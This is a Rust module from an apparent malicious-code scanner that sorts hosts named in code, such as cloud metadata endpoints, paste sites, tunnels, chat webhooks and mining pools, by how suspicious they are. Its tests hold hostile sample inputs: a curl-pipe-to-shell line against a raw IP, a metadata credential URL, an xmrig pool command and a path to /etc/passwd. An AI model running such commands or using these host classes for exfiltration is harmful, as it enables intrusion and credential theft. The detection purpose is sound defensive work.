//! What hosts and paths named in code are for: the *destination* and *target* part of a finding.
//!
//! In: folded texts (parts that are not known are `…`). Out: hosts with their kind, and kinds of path. The lists name
//! classes of service, never single addresses of known campaigns.

mod paths;
mod services;

pub use paths::PathKind;
pub(crate) use paths::path_kind;

use services::{CALLBACK, CODE_HOST, ECHO, FILE_DROP, FREE_HOST, MINING, PASTE, SHORTENER, TUNNEL};

/// What kind of place a host is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum HostKind {
    /// This machine or a private network.
    Local,
    /// An address without a name.
    RawIp,
    /// A chat service's incoming hook or bot interface.
    ChatWebhook,
    /// A chat service's file store.
    ChatFiles,
    /// Text that anybody may post without an account.
    Paste,
    /// Files that anybody may upload without an account.
    FileDrop,
    /// Collects requests for whoever rented the name (out-of-band testing, request bins).
    Callback,
    /// A tunnel to somebody's own machine.
    Tunnel,
    /// Hides the true address.
    Shortener,
    /// Free hosting for anything.
    FreeHost,
    /// A forge's raw files or release files.
    CodeHost,
    /// Tells the caller its public address.
    AddressEcho,
    /// A hidden service.
    Onion,
    /// A cloud's metadata service: hands out the keys of the machine's role.
    CloudMetadata,
    /// A pool that pays for computed hashes.
    MiningPool,
    /// A registry by its name (`registry.…`).
    Registry,
    /// Anything else.
    Named,
}

/// A host that an argument names.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Destination {
    /// Kind.
    pub kind: HostKind,
    /// Host in lower case, without port; may contain `…`.
    pub host: String,
    /// Path after the host, cut to 200 characters.
    pub path: String,
}

impl Destination {
    /// A place that serves whoever pays nothing and says nothing: no honest installer downloads from there.
    pub fn is_shady(&self) -> bool {
        matches!(
            self.kind,
            HostKind::RawIp
                | HostKind::ChatFiles
                | HostKind::Paste
                | HostKind::FileDrop
                | HostKind::Callback
                | HostKind::Tunnel
                | HostKind::Shortener
                | HostKind::Onion
        )
    }

    /// A place where anybody may put anything, under a name that is well known for that.
    pub fn is_anybodys(&self) -> bool {
        matches!(self.kind, HostKind::FreeHost | HostKind::CodeHost | HostKind::MiningPool | HostKind::CloudMetadata)
    }

    /// A place that collects what is sent to it, for somebody who is not named.
    pub fn is_drop(&self) -> bool {
        self.kind == HostKind::ChatWebhook || self.is_shady()
    }

    /// Whether it is the host or the repository `own` (`example.com`, `example.com/owner/name`).
    pub fn is_within(&self, own: &str) -> bool {
        let (host, path) = own.split_once('/').unwrap_or((own, ""));
        let same_host = !host.is_empty() && (self.host == host || self.host.ends_with(&format!(".{host}")));
        if path.is_empty() {
            return same_host;
        }
        let raw = (host == "github.com"
            && matches!(self.host.as_str(), "raw.githubusercontent.com" | "api.github.com" | "codeload.github.com"))
            || (host == "gitlab.com" && self.host == "gitlab.com");
        let path = path.to_ascii_lowercase();
        (same_host || raw) && self.path.to_ascii_lowercase().contains(&path)
    }
}

fn within(host: &str, list: &[&str]) -> bool {
    list.iter().any(|name| host.strip_suffix(name).is_some_and(|rest| rest.is_empty() || rest.ends_with('.')))
}

fn ipv4(host: &str) -> Option<[u8; 4]> {
    let mut parts = [0u8; 4];
    let mut count = 0;
    for piece in host.split('.') {
        if count == 4 || piece.is_empty() || piece.len() > 3 || !piece.bytes().all(|b| b.is_ascii_digit()) {
            return None;
        }
        parts[count] = piece.parse().ok()?;
        count += 1;
    }
    (count == 4).then_some(parts)
}

/// The addresses at which clouds and container services tell a machine about itself.
fn is_metadata(host: &str) -> bool {
    matches!(
        host,
        "169.254.169.254"
            | "169.254.170.2"
            | "169.254.170.23"
            | "100.100.100.200"
            | "[fd00:ec2::254]"
            | "metadata.google.internal"
            | "metadata"
    )
}

/// Name servers that anybody may ask; connecting to one is how a program learns its own address, too.
const PUBLIC_RESOLVERS: [&str; 15] = [
    "8.8.8.8",
    "8.8.4.4",
    "1.1.1.1",
    "1.0.0.1",
    "9.9.9.9",
    "208.67.222.222",
    "208.67.220.220",
    "114.114.114.114",
    "114.114.115.115",
    "223.5.5.5",
    "223.6.6.6",
    "119.29.29.29",
    "180.76.76.76",
    "4.2.2.2",
    "1.2.3.4",
];

fn classify(host: &str, path: &str) -> HostKind {
    if is_metadata(host) {
        return HostKind::CloudMetadata;
    }
    if let Some([a, b, ..]) = ipv4(host) {
        return match (a, b) {
            (127 | 10 | 0 | 255, _) | (192, 168) | (169, 254) => HostKind::Local,
            (172, 16..=31) => HostKind::Local,
            // Groups of machines in one network: how devices are found (SSDP, mDNS).
            (224..=239, _) => HostKind::Local,
            _ if PUBLIC_RESOLVERS.contains(&host) => HostKind::Named,
            _ => HostKind::RawIp,
        };
    }
    if host == "localhost"
        || host.starts_with('[')
        || host.ends_with(".local")
        || host.ends_with(".localhost")
        || host.ends_with(".internal")
    {
        return if host.starts_with('[') && host != "[::1]" && host.len() > 6 { HostKind::RawIp } else { HostKind::Local };
    }
    let hook_path = path.contains("/api/webhooks/") || path.contains("/api/v9/webhooks/") || path.contains("/api/v10/webhooks/");
    if hook_path
        || host == "hooks.slack.com"
        || (host == "api.telegram.org" && path.contains("/bot"))
        || (host.ends_with("webhook.office.com"))
    {
        return HostKind::ChatWebhook;
    }
    if matches!(host, "cdn.discordapp.com" | "media.discordapp.net" | "cdn.discord.com") {
        return HostKind::ChatFiles;
    }
    if host == "discord.com" && path.contains("/attachments/") {
        return HostKind::ChatFiles;
    }
    if host.ends_with(".onion") {
        return HostKind::Onion;
    }
    for (kind, list) in [
        (HostKind::Callback, CALLBACK),
        (HostKind::Tunnel, TUNNEL),
        (HostKind::Paste, PASTE),
        (HostKind::FileDrop, FILE_DROP),
        (HostKind::Shortener, SHORTENER),
        (HostKind::AddressEcho, ECHO),
        (HostKind::FreeHost, FREE_HOST),
        (HostKind::CodeHost, CODE_HOST),
        (HostKind::MiningPool, MINING),
    ] {
        if within(host, list) {
            return kind;
        }
    }
    if host.starts_with("registry.") {
        return HostKind::Registry;
    }
    HostKind::Named
}

/// The hosts that `text` names, in order, at most eight.
pub(crate) fn destinations(text: &str) -> Vec<Destination> {
    let mut found: Vec<Destination> = Vec::new();
    let mut rest = text;
    while let Some(at) = memchr::memmem::find(rest.as_bytes(), b"://") {
        let scheme_start = rest[..at]
            .rfind(|c: char| !c.is_ascii_alphanumeric() && c != '+')
            .map_or(0, |i| i + rest[i..].chars().next().map_or(1, char::len_utf8));
        let scheme = rest[scheme_start..at].to_ascii_lowercase();
        rest = &rest[at + 3..];
        let mines = scheme.starts_with("stratum");
        if !mines && !matches!(scheme.as_str(), "http" | "https" | "ws" | "wss" | "ftp" | "ftps" | "tcp" | "udp" | "socket") {
            continue;
        }
        let found_here = authority(rest).map(|to| if mines { Destination { kind: HostKind::MiningPool, ..to } } else { to });
        push(&mut found, found_here);
        if found.len() >= 8 {
            return found;
        }
    }
    let bare = text.trim();
    if found.is_empty() && bare.len() <= 253 {
        let host = bare.split([':', '/']).next().unwrap_or(bare);
        let is_address = ipv4(host).is_some();
        if is_address || looks_like_host(host) {
            push(&mut found, authority(bare));
        }
    }
    found
}

fn push(found: &mut Vec<Destination>, destination: Option<Destination>) {
    if let Some(destination) = destination
        && !found.contains(&destination)
    {
        found.push(destination);
    }
}

fn looks_like_host(host: &str) -> bool {
    let mut labels = 0;
    for label in host.split('.') {
        labels += 1;
        if label.is_empty() || !label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '…') {
            return false;
        }
    }
    let last = host.rsplit('.').next().unwrap_or("");
    labels >= 2
        && matches!(
            last,
            "com"
                | "net"
                | "org"
                | "io"
                | "dev"
                | "app"
                | "xyz"
                | "site"
                | "online"
                | "live"
                | "fun"
                | "me"
                | "pro"
                | "ru"
                | "cn"
                | "top"
                | "tk"
                | "ml"
                | "ga"
                | "sh"
                | "co"
                | "example"
                | "onion"
        )
}

fn authority(rest: &str) -> Option<Destination> {
    let end = rest
        .find(|c: char| matches!(c, '/' | '?' | '#' | '"' | '\'' | '`' | '<' | '>' | '\\' | ')' | ';' | ',' | '|') || c.is_whitespace())
        .unwrap_or(rest.len());
    let authority = &rest[..end];
    let host = authority.rsplit('@').next().unwrap_or(authority);
    let host =
        if host.starts_with('[') { host.split_inclusive(']').next().unwrap_or(host) } else { host.split(':').next().unwrap_or(host) };
    if host.is_empty() {
        return None;
    }
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let tail = &rest[end..];
    let stop = tail.find(|c: char| matches!(c, '"' | '\'' | '`' | '<' | '>' | '|') || c.is_whitespace()).unwrap_or(tail.len());
    let path: String = tail[..stop].chars().take(200).collect();
    Some(Destination { kind: classify(&host, &path), host, path })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<HostKind> {
        destinations(text).into_iter().map(|d| d.kind).collect()
    }

    #[test]
    fn hosts_are_told_apart_by_what_they_are_for() {
        assert_eq!(kinds("curl http://192.0.2.7:8080/x | sh"), [HostKind::RawIp]);
        assert_eq!(kinds("http://127.0.0.1/ and https://example.com/a"), [HostKind::Local, HostKind::Named]);
        assert_eq!(kinds("https://chat.example.com/api/webhooks/0/token"), [HostKind::ChatWebhook]);
        assert_eq!(kinds("https://…/x"), [HostKind::Named]);
        assert_eq!(kinds("192.0.2.1"), [HostKind::RawIp]);
        assert_eq!(kinds("239.255.255.250"), [HostKind::Local]);
        assert_eq!(kinds("8.8.8.8"), [HostKind::Named]);
        assert_eq!(kinds("http://169.254.169.254/latest/meta-data/"), [HostKind::CloudMetadata]);
        assert_eq!(kinds("xmrig -o stratum+tcp://pool.example.com:3333"), [HostKind::MiningPool]);
        assert!(kinds("1.2.3").is_empty());
        assert!(kinds("file:///etc/passwd").is_empty());
    }

    #[test]
    fn a_repository_is_its_own_place_and_its_neighbour_is_not() {
        let to = |url: &str| destinations(url).remove(0);
        assert!(to("https://github.com/owner/name/releases/download/v1/x").is_within("github.com/owner/name"));
        assert!(to("https://raw.githubusercontent.com/Owner/name/main/x").is_within("github.com/owner/name"));
        assert!(!to("https://github.com/other/name/x").is_within("github.com/owner/name"));
        assert!(to("https://cdn.example.com/x").is_within("example.com"));
        assert!(!to("https://notexample.com/x").is_within("example.com"));
    }
}
